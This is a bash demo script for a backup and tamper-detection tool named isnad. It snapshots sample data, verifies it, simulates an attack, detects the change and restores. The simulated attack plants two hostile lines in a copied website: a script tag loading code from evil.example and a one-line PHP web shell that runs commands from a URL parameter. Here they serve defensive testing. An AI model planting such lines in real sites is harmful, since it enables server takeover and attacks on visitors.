#!/usr/bin/env bash
# The main job on the sample data, start to finish: make a key, create a local repository, take a
# snapshot, verify it without and with the key, simulate an attack and find it with diff, restore,
# and show that the restored tree matches. Re-runnable: it starts from scratch each time.
set -euo pipefail
cd "$(dirname "$0")"
isnad() { node ../dist/bin/isnad.js --log-level warn "$@"; }
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

rm -rf repo restored attacked key.txt signing.key

step "isnad keygen: an identity (private key) for the people who may restore; post-quantum by default"
isnad keygen -o key.txt
recipient=$(sed -n 's/^# public key: //p' key.txt)

step "isnad init: a local repository that encrypts to that recipient (no private key needed)"
isnad init --config isnad.yaml --recipient "$recipient"

step "isnad snapshot: website, documents and a database dump, as cron would run it"
isnad snapshot --config isnad.yaml
isnad snapshots --config isnad.yaml

step "isnad verify: signatures, chain and every stored object, without the key"
isnad verify --config isnad.yaml
step "isnad verify -i key.txt: also decrypts and hashes every file"
isnad verify --config isnad.yaml -i key.txt

step "an attacker changes the website; isnad diff names what they touched (exit 3)"
cp -a site attacked
echo '<script src="https://evil.example/x.js"></script>' >> attacked/index.html
echo '<?php system($_GET["c"]); ?>' > attacked/reports/shell.php
rm attacked/robots.txt
set +e
isnad diff --config isnad.yaml latest attacked --source website
echo "(isnad diff exited $?)"
set -e

step "isnad restore: verified copies into a fresh folder"
isnad restore --config isnad.yaml latest --target restored

step "the restored tree matches the originals"
diff -r site restored/website
diff -r documents restored/documents
./dump-database.sh | cmp - restored/database/cases.sql
echo "restored/website, restored/documents and restored/database/cases.sql match the originals"
